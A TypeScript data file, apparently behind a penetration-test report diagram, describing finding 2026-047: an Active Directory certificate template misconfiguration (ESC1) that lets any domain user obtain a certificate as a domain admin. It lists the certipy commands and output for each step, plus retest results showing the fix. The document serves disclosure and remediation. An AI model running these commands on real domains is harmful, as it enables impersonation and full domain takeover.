import { findingPrefix } from '#contract/finding-numbers.ts';
import type { AttackPath } from './attack-path.ts';

export const networkPath: AttackPath = {
  id: `${findingPrefix}-2026-047`,
  title: 'Any domain user can become any user',
  vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:H/VA:H/SC:H/SI:H/SA:H',
  reported: '2026-03-26',
  retested: '2026-04-16',
  answers: ['issued', 'denied'],
  cut: 3,
  sides: [
    { label: 'perimeter: nothing', from: 1, at: 2, lane: 0 },
    { label: 'relay: blocked', from: 2, at: 3, lane: 2 },
  ],
  hops: [
    {
      label: 'phished laptop',
      glyph: 'mail',
      lane: 2,
      name: 'Start as one user',
      lines: [
        'tester@corp.kestrel.example, member of Domain Users',
        'host: WS-0417, 10.20.31.7, no local admin',
      ],
    },
    {
      label: 'KESTREL-CA',
      glyph: 'server',
      lane: 1,
      name: 'Read the templates',
      lines: [
        '$ certipy find -u tester@corp.kestrel.example -vulnerable',
        'Template Name             : VPN-User',
        'Enrollee Supplies Subject : {!True!}',
        'Enrollable Principals     : {!Domain Users!}',
        '[!] ESC1',
      ],
    },
    {
      label: 'someone else’s name',
      glyph: 'document',
      lane: 0,
      name: 'Request a certificate as da1',
      lines: [
        '$ certipy req -ca KESTREL-CA -template VPN-User \\',
        '    -upn {-da1@corp.kestrel.example-} -sid [...] {#1}',
        '[*] Successfully requested certificate',
        '[*] Got certificate with UPN {!da1@[...]!}',
      ],
      notes: ['the requester chooses the subject'],
      after: [
        '$ certipy req -ca KESTREL-CA -template VPN-User \\',
        '    -upn {-da1@corp.kestrel.example-} -sid [...]',
        '{+[-] CERTSRV_E_TEMPLATE_DENIED+}',
      ],
    },
    {
      label: 'domain admin',
      glyph: 'crown',
      lane: 1,
      name: 'Log in with it',
      lines: [
        '$ certipy auth -pfx da1.pfx -dc-ip 10.20.0.10',
        '[*] Got TGT',
        '[*] Got hash for {!da1!}: [redacted]',
      ],
      after: [
        '$ certipy auth -pfx da1.pfx -dc-ip 10.20.0.10',
        '{+[-] KDC_ERR_REVOKED_CERTIFICATE+}',
        '# the first certificate was revoked too',
      ],
    },
  ],
};
